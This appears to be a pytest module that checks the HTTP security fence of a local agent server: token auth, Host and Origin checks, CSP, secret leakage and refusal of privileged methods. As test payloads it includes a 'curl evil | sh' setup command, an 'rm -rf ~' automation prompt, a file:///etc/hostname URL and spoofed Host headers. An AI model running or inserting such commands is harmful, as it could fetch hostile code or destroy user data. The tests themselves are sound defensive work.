"""The loopback fence over real HTTP, against the real `harnessdesk serve` (docs/architecture.md,
"The loopback fence").

One server process for the module (the checks do not change its state), started with
`--trusted-host trusted.example`; every response body is checked for the token on the way.
"""

from __future__ import annotations

import asyncio
import json
import socket
import stat
from collections.abc import AsyncIterator, Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest

from contract.methods import (
    AGENT_PRESET_LIST,
    COMMAND_LIST,
    CREDENTIALS_DESCRIBE,
    HOST_DESCRIBE,
    LLM_LOCAL_MODELS,
    LLM_MODELS,
    LLM_PROVIDERS,
    METHODS,
    SESSION_CREATE,
    SESSION_LIST,
    SESSION_SELECT_MODEL,
    SKILL_LIST,
    AnyMethod,
)
from host.fetch import HttpApiClient
from host.server.binding import bind_socket
from host.server.fence import LoopbackFence
from tests.api.support import Frames as FrameReader
from tests.api.support import Served, event, ok, run_turn, start_serve
from tests.support.scripted_llm import Reply, ScriptedLlmServer

TRUSTED = "trusted.example"
LIST = b'{"type":"client-request","rpcId":"r-1","method":"session.list","payload":{}}'
JSON = {"content-type": "application/json"}


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory, llm_server: ScriptedLlmServer) -> Iterator[Served]:
    root = tmp_path_factory.mktemp("fence")
    server = start_serve(
        root / "data",
        "--trusted-host",
        TRUSTED,
        "--provider",
        "openai-compatible",
        "--base-url",
        llm_server.base_url,
        "--model",
        "m",
        cwd=root,
    )
    try:
        yield server
    finally:
        server.stop()
    assert server.token not in server.later_output  # nothing after the first line shows it


class Checked:
    """An httpx client to the server that asserts no response body ever carries the token."""

    def __init__(self, served: Served) -> None:
        self.served = served
        self.http = httpx.AsyncClient(base_url=served.base_url, trust_env=False, follow_redirects=False)

    async def request(self, method: str, path: str, **kw: Any) -> httpx.Response:
        response = await self.http.request(method, path, **kw)
        assert self.served.token not in response.text, f"{method} {path}: the token is in the body"
        return response

    async def post_list(self, headers: dict[str, str]) -> httpx.Response:
        return await self.request("POST", "/api/session.list", content=LIST, headers=headers)

    def bearer(self, **extra: str) -> dict[str, str]:
        return {**JSON, "authorization": f"Bearer {self.served.token}", **extra}


@pytest.fixture
async def web(served: Served) -> AsyncIterator[Checked]:
    checked = Checked(served)
    yield checked
    await checked.http.aclose()


async def test_bearer_token_works_and_missing_or_wrong_is_401(web: Checked) -> None:
    good = await web.post_list(web.bearer())
    assert good.status_code == 200 and good.json()["result"] == {"ok": True, "value": {"items": []}}
    assert (await web.post_list(JSON)).status_code == 401
    wrong = web.served.token[:-2] + ("AA" if not web.served.token.endswith("AA") else "BB")
    for auth in (f"Bearer {wrong}", "Bearer", f"Basic {web.served.token}", web.served.token, "Bearer x"):
        response = await web.post_list({**JSON, "authorization": auth})
        assert response.status_code == 401, auth
    for path in ("/api/events.mux", "/api/events.host", "/api/session.export?sessionId=s-x"):
        assert (await web.request("GET", path)).status_code == 401, path
    assert (await web.request("POST", "/api/respond", content=b"{}", headers=JSON)).status_code == 401


async def test_host_allowlist(web: Checked) -> None:
    port = web.served.port
    for host in (
        "evil.example",
        f"evil.example:{port}",
        "127.0.0.1.evil.example",
        "localhost.evil",
        "0.0.0.0",
    ):
        api = await web.post_list(web.bearer(host=host))
        assert api.status_code == 403, host
        page = await web.request("GET", "/", headers={"host": host})
        assert page.status_code == 403, host
    for host in (f"127.0.0.1:{port}", f"localhost:{port}", f"127.0.0.2:{port}", f"[::1]:{port}", "LOCALHOST"):
        assert (await web.post_list(web.bearer(host=host))).status_code == 200, host
    # HTTP/1.0 allows leaving the Host header out: the fence does not
    with socket.create_connection(("127.0.0.1", port), timeout=5) as sock:
        request = (
            "POST /api/session.list HTTP/1.0\r\ncontent-type: application/json\r\n"
            f"authorization: Bearer {web.served.token}\r\ncontent-length: {len(LIST)}\r\n\r\n"
        )
        sock.sendall(request.encode() + LIST)
        reply = b""
        while chunk := sock.recv(65536):
            reply += chunk
    assert reply.split(b"\r\n", 1)[0].split(b" ")[1] in (b"400", b"403")
    assert web.served.token.encode() not in reply


def raw_exchange(port: int, request: bytes) -> bytes:
    with socket.create_connection(("127.0.0.1", port), timeout=5) as sock:
        sock.sendall(request)
        reply = b""
        while chunk := sock.recv(65536):
            reply += chunk
    return reply


async def test_a_host_header_naming_two_hosts_is_refused(web: Checked) -> None:
    """Userinfo (`localhost:PORT@evil.test`), a list (`127.0.0.1:PORT, evil.test`) or a second
    Host header: which host is meant depends on who parses it, so none passes (issue 40)."""
    port = web.served.port
    for host in (
        f"localhost:{port}@evil.test",
        f"127.0.0.1:{port}@evil.test",
        f"evil.test@127.0.0.1:{port}",
        f"127.0.0.1:{port}, evil.test",
        f"127.0.0.1:{port},evil.test",
        f"localhost:{port}, localhost:{port}",
        f"localhost:{port}/x",
        "::1",
        f"127.0.0.1:{port}:{port}",
    ):
        assert (await web.post_list(web.bearer(host=host))).status_code == 403, host
        assert (await web.request("GET", "/", headers={"host": host})).status_code == 403, host
    for second in ("evil.test", f"127.0.0.1:{port}"):
        for path, body in (("/api/session.list", LIST), ("/", b"")):
            method = "POST" if body else "GET"
            request = (
                f"{method} {path} HTTP/1.1\r\nhost: 127.0.0.1:{port}\r\nhost: {second}\r\n"
                f"content-type: application/json\r\nauthorization: Bearer {web.served.token}\r\n"
                f"content-length: {len(body)}\r\nconnection: close\r\n\r\n"
            ).encode()
            reply = raw_exchange(port, request + body)
            assert reply.split(b"\r\n", 1)[0].split(b" ")[1] in (b"400", b"403"), (second, path)
            assert web.served.token.encode() not in reply
    assert (await web.post_list(web.bearer(host=f"127.0.0.1:{port}"))).status_code == 200  # the control


def test_the_fence_itself_refuses_a_second_host_header() -> None:
    """h11 already answers 400 to two Host headers; the fence does not rely on the parser."""
    fence = LoopbackFence(lambda *a: None, token="t" * 32)  # type: ignore[arg-type]

    def scope(*hosts: bytes) -> dict[str, Any]:
        headers = [(b"host", h) for h in hosts] + [(b"authorization", b"Bearer " + b"t" * 32)]
        return {"type": "http", "path": "/api/session.list", "headers": headers, "client": ("127.0.0.1", 1)}

    assert fence.refusal(scope(b"127.0.0.1:1")) is None
    for hosts in ((b"127.0.0.1:1", b"evil.test"), (b"127.0.0.1:1", b"127.0.0.1:1"), ()):
        assert fence.refusal(scope(*hosts)) == (403, "Host not allowed"), hosts


async def test_origin_and_fetch_metadata(web: Checked) -> None:
    own = web.served.base_url
    for origin in (
        "http://evil.example",
        "null",
        own.replace("127.0.0.1", "localhost"),
        own + ":1",
        "https://127.0.0.1",
    ):
        response = await web.post_list(web.bearer(origin=origin))
        assert response.status_code == 403, origin
    assert (await web.post_list(web.bearer(**{"sec-fetch-site": "cross-site"}))).status_code == 403
    assert (await web.post_list(web.bearer(origin=own))).status_code == 200
    for site in ("same-origin", "none"):
        assert (await web.post_list(web.bearer(**{"sec-fetch-site": site}))).status_code == 200, site


async def test_media_type_415_comes_after_the_token(web: Checked) -> None:
    for media in ("text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x"):
        headers = {"authorization": f"Bearer {web.served.token}", "content-type": media}
        response = await web.request("POST", "/api/session.list", content=LIST, headers=headers)
        assert response.status_code == 415, media
        anonymous = await web.request(
            "POST", "/api/session.list", content=LIST, headers={"content-type": media}
        )
        assert anonymous.status_code == 401, media  # the fence answers before the handler
    charset = web.bearer(**{"content-type": "application/json; charset=utf-8"})
    assert (await web.post_list(charset)).status_code == 200


async def test_token_link_serves_the_app_and_no_cookie_ever_authorises(web: Checked) -> None:
    token = web.served.token
    link = await web.request("GET", f"/?token={token}")
    assert link.status_code == 200 and "<html" in link.text
    assert link.headers["cache-control"] == "no-store"
    cookies = link.headers.get_list("set-cookie")
    assert all(token not in c for c in cookies)  # at most the deletion of an older version's cookie
    assert all("max-age=0" in c.lower() for c in cookies)
    jar = {"cookie": f"harnessdesk_token={token}"}
    assert (await web.post_list({**JSON, **jar})).status_code == 401  # cookies never authorise
    events = await web.request("GET", "/api/session.export?sessionId=s-unknown", headers=jar)
    assert events.status_code == 401
    wrong = await web.request("GET", "/?token=not-the-token")
    assert wrong.status_code == 401 and "set-cookie" not in wrong.headers


async def test_trusted_host_gets_the_api_but_no_privileged_methods_at_all(web: Checked) -> None:
    """While a non-loopback name is trusted, a proxy for it could forward anyone's
    `Host: localhost`: privileged methods are refused to every HTTP request, loopback included."""
    trusted = web.bearer(host=f"{TRUSTED}:{web.served.port}")
    assert (await web.post_list(trusted)).status_code == 200
    assert (await web.request("GET", "/", headers={"host": TRUSTED})).status_code == 200
    privileged = {
        "settings.describe": {},
        "agentPreset.read": {"agentPreset": "standard"},
        "agentPreset.copy": {"from": "standard", "agentPreset": "stolen"},
        "agentPreset.openDocument": {"agentPreset": "standard"},
        "agentPreset.remove": {"agentPreset": "standard"},
        "settings.openDocument": {},
        "settings.update": {"ns": "permission", "patch": {"defaultPreset": "read-only"}},
        "settings.replace": {"ns": "permission", "section": {}},
        "settings.mutate": {"ns": "permission", "ops": []},
        "settings.resetDocument": {"file": "settings.json"},
        "credentials.describe": {"refs": ["DEEPSEEK_API_KEY"]},
        "credentials.set": {"ref": "DEEPSEEK_API_KEY", "value": "sk-should-never-land"},
        "credentials.unset": {"ref": "DEEPSEEK_API_KEY"},
        "credentials.move": {"ref": "DEEPSEEK_API_KEY", "to": "MOVED_API_KEY"},
        "llm.discoverModels": {"settingsNs": "llm-deepseek"},
        "llm.downloadModel": {"url": "file:///etc/hostname"},
        "llm.pauseDownload": {"downloadId": "dl-x"},
        "llm.resumeDownload": {"downloadId": "dl-x"},
        "llm.cancelDownload": {"downloadId": "dl-x"},
        "llm.removeModel": {"modelId": "m"},
        "llm.discoverLocal": {},
        "session.delete": {"sessionId": "s-unknown"},
        "permission.set": {
            "sessionId": "s-unknown",
            "preset": "danger-full-access",
            "confirmFullAccess": True,
        },
        "workspace.setTrust": {"workspaceId": "w-unknown", "trusted": True},
        "mcp.approve": {"workspaceId": "w-unknown", "name": "evil"},
        "mcp.setEnabled": {"sessionId": "s-unknown", "name": "evil", "enabled": True},
        "mcp.openUserFile": {},
        "hooks.approve": {"workspaceId": "w-unknown", "digest": "0" * 64},
        "mcp.addEditorServers": {"sessionId": "s-unknown", "mcpServers": {}},
        "worktree.apply": {"sessionId": "s-unknown"},
        "worktree.merge": {"sessionId": "s-unknown"},
        "worktree.remove": {"sessionId": "s-unknown", "keepBranch": False, "force": True},
        "worktree.adopt": {"sessionId": "s-unknown"},
        "worktree.configure": {"workspaceId": "w-unknown", "setup": "curl evil | sh"},
        "files.freeSpace": {},
        "remote.add": {"target": "someone@example.invalid"},
        "remote.update": {"hostId": "h-unknown", "mode": "attached"},
        "remote.remove": {"hostId": "h-unknown"},
        "remote.test": {"hostId": "h-unknown"},
        "remote.connect": {"hostId": "h-unknown"},
        "remote.disconnect": {"hostId": "h-unknown"},
        "remote.trustHostKey": {"hostId": "h-unknown", "fingerprint": "SHA256:abcdefgh"},
        "terminal.open": {"sessionId": "s-unknown", "cols": 80, "rows": 24},
        "terminal.input": {"terminalId": "t-x", "data": "id\n"},
        "terminal.resize": {"terminalId": "t-x", "cols": 80, "rows": 24},
        "terminal.close": {"terminalId": "t-x"},
        "terminal.list": {"sessionId": "s-unknown"},
        "terminal.attach": {"terminalId": "t-x"},
        "terminal.ack": {"terminalId": "t-x", "viewer": "v", "seq": 0},
        "automation.create": {
            "name": "x",
            "cwd": "/",
            "prompt": [{"type": "text", "text": "rm -rf ~"}],
            "trigger": {"kind": "manual"},
        },
        "automation.update": {"automationId": "au-x", "name": "y"},
        "automation.delete": {"automationId": "au-x"},
        "automation.runNow": {"automationId": "au-x"},
        "automation.discardRun": {"runId": "run-x"},
        # commit, log, push, pull request
        "git.commit": {"sessionId": "s-unknown", "message": "m"},
        "git.push": {"sessionId": "s-unknown"},
        "git.pullRequest": {"sessionId": "s-unknown", "title": "t"},
    }
    assert set(privileged) >= {m.key for m in METHODS.values() if m.privileged and m.domain != "host"}
    for handle in (LLM_PROVIDERS, LLM_MODELS, LLM_LOCAL_MODELS):  # the catalogue is not privileged
        body = json.dumps({"type": "client-request", "rpcId": "r", "method": handle.key, "payload": {}})
        answer = await web.request("POST", f"/api/{handle.key}", content=body, headers=trusted)
        assert answer.status_code == 200
    for method, payload in privileged.items():
        body = json.dumps({"type": "client-request", "rpcId": "r", "method": method, "payload": payload})
        for headers in (trusted, web.bearer()):
            refused = await web.request("POST", f"/api/{method}", content=body, headers=headers)
            assert refused.status_code == 403, (method, headers.get("host"))
    assert not (web.served.data_dir / "credentials.json").exists()  # the set never happened
    assert not (web.served.data_dir / "agent-presets").exists()  # nor the copy
    for listing in (AGENT_PRESET_LIST, COMMAND_LIST, SKILL_LIST):  # deliberately not privileged
        payload = {} if listing is AGENT_PRESET_LIST else {"sessionId": "s-unknown"}
        body = json.dumps({"type": "client-request", "rpcId": "r", "method": listing.key, "payload": payload})
        answer = await web.request("POST", f"/api/{listing.key}", content=body, headers=trusted)
        assert answer.status_code == 200


async def test_static_pages_carry_the_csp(web: Checked) -> None:
    for path in ("/", "/index.html", "/js/main.js", "/css/base.css"):
        response = await web.request("GET", path)
        assert response.status_code == 200, path
        csp = response.headers["content-security-policy"]
        directives = {d.strip().split(" ")[0]: d.strip() for d in csp.split(";")}
        assert directives["default-src"] == "default-src 'self'"
        assert directives["frame-ancestors"] == "frame-ancestors 'none'"
        assert "unsafe-inline" not in directives.get("script-src", "") and "unsafe-eval" not in csp
        assert response.headers["x-content-type-options"] == "nosniff"
    assert "<html" in (await web.request("GET", "/")).text


async def _accepted_nodelay(listener: socket.socket) -> int:
    """TCP_NODELAY of a connection the event loop accepted on `listener` (as uvicorn accepts)."""
    seen: asyncio.Future[int] = asyncio.get_running_loop().create_future()

    async def on_connect(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        sock = writer.get_extra_info("socket")
        seen.set_result(sock.getsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY))
        writer.close()

    server = await asyncio.start_server(on_connect, sock=listener)
    try:
        host, port = listener.getsockname()[:2]
        _, writer = await asyncio.open_connection(host, port)
        value = await asyncio.wait_for(seen, 10)
        writer.close()
        return value
    finally:
        server.close()
        await server.wait_closed()


async def test_keep_alive_requests_are_not_delayed() -> None:
    """Many unary calls share one connection (the web UI's case): each must answer at once.

    A listening socket made without IPPROTO_TCP leaves Nagle on for every accepted connection,
    and a response written in two pieces then waits for the client's delayed ACK (~40 ms). So
    the check is the option itself, not a timing (bench/ measures latency): the server's
    listening socket must make the loop turn TCP_NODELAY on for what it accepts, and the control
    (a socket made the default way) shows the check can fail.
    """
    assert await _accepted_nodelay(bind_socket("127.0.0.1", 0)) != 0
    plain = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    plain.bind(("127.0.0.1", 0))
    plain.listen(8)
    assert await _accepted_nodelay(plain) == 0


async def test_http_client_runs_a_turn_on_the_real_server(served: Served, llm: ScriptedLlmServer) -> None:
    llm.enqueue(Reply(text="Hello over real HTTP."))
    async with HttpApiClient(served.base_url, served.token) as client:
        async with FrameReader(client.stream("events.mux")) as mux:
            sid = (await ok(client, SESSION_CREATE, {"cwd": "/tmp"})).session_id
            events = await run_turn(client, mux, sid, "hi")
            final = next(e for e in events if e.type == "assistant/message")
            assert final.data["message"]["content"][0]["text"] == "Hello over real HTTP."
            _, end = await mux.next(event("session/title", sid))
            assert end.event.data["source"] == {"kind": "auto"}


async def test_token_and_secrets_never_leak(tmp_path: Path, llm: ScriptedLlmServer) -> None:
    """Own server at debug log level: after the first line, no output carries the token, and a
    credential set through the API shows up nowhere but in credentials.json (0600)."""
    secret = "sk-very-secret-value-0123456789"
    data = tmp_path / "data"
    served = start_serve(
        data,
        "--log-level",
        "debug",
        "--provider",
        "openai-compatible",
        "--base-url",
        llm.base_url,
        cwd=tmp_path,
    )
    bodies: list[str] = []
    try:
        checked = Checked(served)
        try:
            token = served.token
            for path in (f"/?token={token}", "/?token=wrong", f"/index.html?token={token}", "/nope"):
                bodies.append((await checked.request("GET", path)).text)
            for headers in (checked.bearer(), JSON, {**JSON, "authorization": "Bearer wrong"}):
                bodies.append((await checked.post_list(headers)).text)
            calls = [
                ("credentials.set", {"ref": "DEEPSEEK_API_KEY", "value": secret}),
                ("credentials.set", {"ref": "HARNESSDESK_API_KEY", "value": secret}),
                ("credentials.describe", {"refs": ["DEEPSEEK_API_KEY", "HARNESSDESK_API_KEY"]}),
                ("settings.describe", {}),
                ("settings.update", {"ns": "ui-onboarding", "patch": {"welcomeNoticeVersion": "after"}}),
                ("credentials.set", {"ref": "not a ref", "value": secret}),
            ]
            for method, payload in calls:
                body = json.dumps(
                    {"type": "client-request", "rpcId": "r", "method": method, "payload": payload}
                )
                response = await checked.request(
                    "POST", f"/api/{method}", content=body, headers=checked.bearer()
                )
                bodies.append(response.text)
                assert response.status_code == 200, (method, response.text)
            async with HttpApiClient(served.base_url, token) as client:
                creds = await ok(client, CREDENTIALS_DESCRIBE, {"refs": ["DEEPSEEK_API_KEY"]})
                view = creds.credentials["DEEPSEEK_API_KEY"]
                assert view.configured and view.source == "file"
                sid = (await ok(client, SESSION_CREATE, {"cwd": str(tmp_path)})).session_id
                chosen = {"sessionId": sid, "provider": "deepseek", "model": "deepseek-chat"}
                assert (await client.call(SESSION_SELECT_MODEL, chosen)).result.ok  # the key is there now
                bodies.append(json.dumps((await ok(client, HOST_DESCRIBE)).dump()))
        finally:
            await checked.http.aclose()
    finally:
        code = served.stop()
    assert code == 0
    for body in bodies:
        assert secret not in body and served.token not in body
    later = served.later_output
    assert served.token not in later, later
    assert secret not in later
    settings = (data / "settings.json").read_text()
    assert secret not in settings
    saved = json.loads(settings)["namespaces"]["agent-default-model"]
    assert saved["provider"] == "deepseek"  # the file was written meanwhile
    credentials = data / "credentials.json"
    assert stat.S_IMODE(credentials.stat().st_mode) == 0o600
    stored = {"DEEPSEEK_API_KEY": secret, "HARNESSDESK_API_KEY": secret}
    assert json.loads(credentials.read_text()) == {"version": 2, "credentials": stored}
    for stored_file in data.rglob("*"):
        if stored_file.is_file() and stored_file != credentials:
            assert secret.encode() not in stored_file.read_bytes(), stored_file


async def test_folder_and_delete_methods_are_privileged(web: Checked, tmp_path: Path) -> None:
    """`host.pickDirectory`, `host.openPath` and `session.delete` are privileged (refused here,
    where a trusted host is configured, to every request); the folder browser and `workspace.*`
    are not (docs/decisions.md "Workspaces"). Over plain loopback they pass: tests/api/
    test_host_folders.py and test_session_delete.py run them over HTTP."""
    trusted = web.bearer(host=f"{TRUSTED}:{web.served.port}")

    async def call(method: AnyMethod, payload: dict[str, Any], headers: dict[str, str]) -> httpx.Response:
        body = json.dumps({"type": "client-request", "rpcId": "r", "method": method.key, "payload": payload})
        return await web.request("POST", f"/api/{method.key}", content=body, headers=headers)

    created = await call(SESSION_CREATE, {"cwd": str(tmp_path)}, web.bearer())
    sid = created.json()["result"]["value"]["sessionId"]
    privileged = {
        "host.pickDirectory": {},
        "host.openPath": {"path": str(tmp_path)},
        "session.delete": {"sessionId": sid},
    }
    for method, payload in privileged.items():
        for headers in (trusted, web.bearer()):
            refused = await call(METHODS[method], payload, headers)
            assert refused.status_code == 403, (method, headers.get("host"))
    listed = await call(SESSION_LIST, {}, web.bearer())
    assert sid in listed.text  # the refused delete did nothing
    for method, payload in {
        "host.listDirectory": {"path": str(tmp_path)},
        "host.createDirectory": {"path": str(tmp_path), "name": "made-through-a-trusted-host"},
        "workspace.create": {"path": str(tmp_path)},
        "workspace.list": {},
    }.items():
        passed = await call(METHODS[method], payload, trusted)
        assert passed.status_code == 200 and passed.json()["result"]["ok"] is True, method
